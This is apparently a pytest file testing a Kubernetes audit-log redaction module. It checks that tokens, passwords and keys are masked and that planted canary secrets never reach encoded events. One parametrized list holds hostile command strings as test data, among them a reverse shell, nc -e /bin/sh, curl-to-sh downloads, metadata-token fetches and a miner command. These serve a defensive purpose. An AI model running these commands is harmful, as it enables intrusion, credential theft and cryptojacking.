"""Secrets never travel; what only looks like one does, and so does what a rule must see."""

import json
import time

import pytest
from records import event_of, native

from leadsman_common.avro import audit_event_codec
from leadsman_normalizer.redact import mask, mask_uri, mask_words, redact

CANARY = "c4n4ry-0123456789abcdef"


@pytest.mark.parametrize(
    "text",
    [
        f"curl -H 'Authorization: Bearer {CANARY}' https://x",
        f"curl -H 'authorization: basic {CANARY}' https://x",
        f"psql postgres://app:{CANARY}@db/x",
        f"mysql --password={CANARY}",
        f"mysql --password {CANARY}",
        f"mysql -u root -p{CANARY} -e x",
        f"DB_PASSWORD={CANARY} run",
        f"export PGPASSWORD='{CANARY}'",
        f"run --api-key={CANARY}",
        f"run --client-secret {CANARY}",
        f"aws configure set aws_secret_access_key={CANARY}",
        f"https://x/?access_token={CANARY}",
        f"curl -u ada:{CANARY} https://x",
        f"token: {CANARY}",
        "kubeadm join --discovery-token abcdef.0123456789abcdef",
        "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJl",
        "ghp_" + "a" * 36,
        "-----BEGIN RSA PRIVATE KEY-----\nMIIcanary\n-----END RSA PRIVATE KEY-----",
    ],
)
def test_masked(text):
    masked = mask(text)
    assert "***" in masked
    assert CANARY not in masked
    for secret in ("abcdef.0123456789abcdef", "eyJzdWIi", "ghp_aaaa", "MIIcanary"):
        assert secret not in masked


@pytest.mark.parametrize(
    "text",
    [
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://x',
        "TOKEN=$(curl http://169.254.169.254/latest/api/token)",
        "run --password=$(curl http://203.0.113.7/x|sh)",
        "run --token=`id`",
        "nc -e /bin/sh 203.0.113.7 4444",
        "kubectl get secrets -A",
        "echo passwordless",
        "tar cf - /data",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "xmrig -o stratum+tcp://pool.example.org:3333 -u 4AdUndXHHZ",
        "login; curl http://203.0.113.7/x|sh",
        "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveHxzaA== | base64 -d | sh",
        "mkdir -p /etc/login.d",
    ],
)
def test_left_as_it_is(text):
    assert mask(text) == text


def test_words_after_a_flag():
    assert mask_words(["x", "--password", CANARY]) == ["x", "--password", "***"]
    assert mask_words(["x", "-u", f"a:{CANARY}"]) == ["x", "-u", "a:***"]
    assert mask_words(["x", "--password", "$(id)"]) == ["x", "--password", "$(id)"]
    assert mask_words(["x", "--token", "--verbose"]) == ["x", "--token", "--verbose"]
    assert mask_words(["mysql", "-uroot", f"-p{CANARY}", "db"]) == ["mysql", "-uroot", "-p***", "db"]
    assert mask_words(["mysql", "-p$(id)"]) == ["mysql", "-p$(id)"]
    assert mask_words(["docker", "login", "-p", CANARY]) == ["docker", "login", "-p", "***"]
    assert mask_words(["ssh", "-p", "22"]) == ["ssh", "-p", "22"]
    assert mask_words(["x", "--password", "three plain words"]) == ["x", "--password", "***"]
    assert mask_words(["x", "--password", "nc -e /bin/sh"]) == ["x", "--password", "nc -e /bin/sh"]


def test_uris():
    assert mask_uri("/api/v1/pods?limit=500&labelSelector=a%3Db") == "/api/v1/pods?limit=500&labelSelector=a%3Db"
    assert CANARY not in mask_uri(f"/x?token={CANARY}&a=b")
    assert mask_uri("/x?" + "&".join(f"token{i}=1" for i in range(2000))) == "/x?"


PLANTED = {
    "secret": ("create", "secrets", "", {"kind": "Secret", "data": {"a": CANARY}, "stringData": {"b": CANARY}}),
    "secret, JSON Patch": ("patch", "secrets", "", [{"op": "add", "path": "/data/a", "value": CANARY}]),
    "secret, merge patch": ("patch", "secrets", "", {"stringData": {"a": CANARY}}),
    "config map": ("create", "configmaps", "", {"kind": "ConfigMap", "data": {"a": CANARY}}),
    "env": ("create", "pods", "", {"spec": {"containers": [{"image": "x", "env": [{"name": "A", "value": CANARY}]}]}}),
    "env, JSON Patch": (
        "patch",
        "deployments",
        "apps",
        [
            {"op": "add", "path": "/spec/template/spec/containers/0/env/-", "value": {"name": "A", "value": CANARY}},
            {"op": "replace", "path": "/spec/template/spec/containers/0/env/0/value", "value": CANARY},
            {"op": "add", "path": "/spec/template/spec/containers/0/env", "value": [{"name": "A", "value": CANARY}]},
        ],
    ),
    "last applied": (
        "create",
        "pods",
        "",
        {
            "metadata": {"annotations": {"kubectl.kubernetes.io/last-applied-configuration": CANARY}},
            "spec": {"containers": [{"image": "x"}]},
        },
    ),
    "last applied, JSON Patch": (
        "patch",
        "pods",
        "",
        [
            {
                "op": "add",
                "path": "/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration",
                "value": CANARY,
            }
        ],
    ),
    "args": ("create", "pods", "", {"spec": {"containers": [{"image": "x", "args": ["--token", CANARY]}]}}),
    "hook": (
        "create",
        "pods",
        "",
        {
            "spec": {
                "containers": [
                    {"image": "x", "lifecycle": {"preStop": {"exec": {"command": ["a", f"--password={CANARY}"]}}}}
                ]
            }
        },
    ),
    "probe's header": (
        "create",
        "pods",
        "",
        {
            "spec": {
                "containers": [
                    {
                        "image": "x",
                        "livenessProbe": {
                            "httpGet": {"httpHeaders": [{"name": "Authorization", "value": f"Bearer {CANARY}"}]}
                        },
                    }
                ]
            }
        },
    ),
    "a custom resource's password": (
        "create",
        "things",
        "example.com",
        {"spec": {"containers": [{"image": "x"}], "password": CANARY, "db": {"adminPassword": CANARY}}},
    ),
    "webhook's client": (
        "create",
        "mutatingwebhookconfigurations",
        "admissionregistration.k8s.io",
        {"webhooks": [{"clientConfig": {"url": f"https://x/?token={CANARY}"}}]},
    ),
}


@pytest.mark.parametrize(("verb", "resource", "group", "body"), PLANTED.values(), ids=PLANTED.keys())
def test_no_canary_travels(verb, resource, group, body):
    for key in ("requestObject", "responseObject"):
        stored = {"metadata": {}, **body} if isinstance(body, dict) else body
        event = event_of(native(verb, resource, group=group, **{key: stored}))
        assert CANARY.encode() not in audit_event_codec().encode(event)


def test_a_list_of_secrets_as_an_answer():
    body = {"kind": "SecretList", "items": [{"data": {"a": CANARY}}]}
    assert CANARY not in repr(event_of(native("list", "secrets", responseObject=body)))


def test_annotations():
    annotations = {
        "patch.webhook.admission.k8s.io/round_0_index_0": json.dumps({"configuration": "c", "patch": [CANARY]}),
        "mutation.webhook.admission.k8s.io/round_0_index_0": '{"configuration":"c","mutated":true}',
        "apiserver.latency.k8s.io/total": "1ms",
        "x": f"token={CANARY}",
    }
    kept = event_of(native("create", "pods", annotations=annotations))["annotations"]
    assert CANARY not in repr(kept)
    assert kept["patch.webhook.admission.k8s.io/round_0_index_0"] == '{"configuration":"c"}'
    assert kept["mutation.webhook.admission.k8s.io/round_0_index_0"] == '{"configuration":"c","mutated":true}'
    assert "apiserver.latency.k8s.io/total" not in kept


def test_the_config_map_that_says_who_enters_is_kept():
    body = {"kind": "ConfigMap", "metadata": {"name": "aws-auth"}, "data": {"mapRoles": "- rolearn: arn:x"}}
    event = event_of(native("update", "configmaps", ref={"name": "aws-auth"}, requestObject=body))
    assert "rolearn" in event["requestObject"]


def test_bodies_are_capped_and_the_cap_is_told():
    body = {"spec": {"containers": [{"image": "x"}], "x": "y" * 100_000}}
    event = event_of(native("create", "pods", requestObject=body))
    assert event["requestObject"] == ""
    assert "requestObject: too large to travel" in event["coverage"]["reasons"]


def test_redact_leaves_the_given_object_alone():
    body = {"kind": "Secret", "data": {"a": CANARY}}
    redact(body, "secrets")
    assert body["data"]["a"] == CANARY


@pytest.mark.parametrize(
    "text",
    [
        "-u " * 50_000,
        "a:" * 100_000,
        "token" * 50_000,
        "-----BEGIN PRIVATE KEY-----" * 5_000,
        "://" * 50_000,
        "a." * 100_000,
        "TOKEN" * 40_000,
        "A_" * 100_000,
        "-" * 200_000,
        "eyJ" * 60_000,
        "--a-" * 50_000,
        "mysql " * 30_000,
        "login " * 30_000,
        "redis-cli " * 20_000,
        "cookie: a=b; " * 15_000,
        "cookie: " + "a=b; " * 40_000,
        "authorization: " * 15_000,
        "--password='a b " * 15_000,
        "--token='" + "a b " * 50_000,
        "aToken" * 30_000,
        "base64 " + "A" * 200_000,
        "base64 " + "TOKEN" * 40_000,
        "sig=" * 50_000,
    ],
)
def test_masking_takes_no_long_time(text):
    start = time.process_time()
    mask(text)
    assert time.process_time() - start < 2
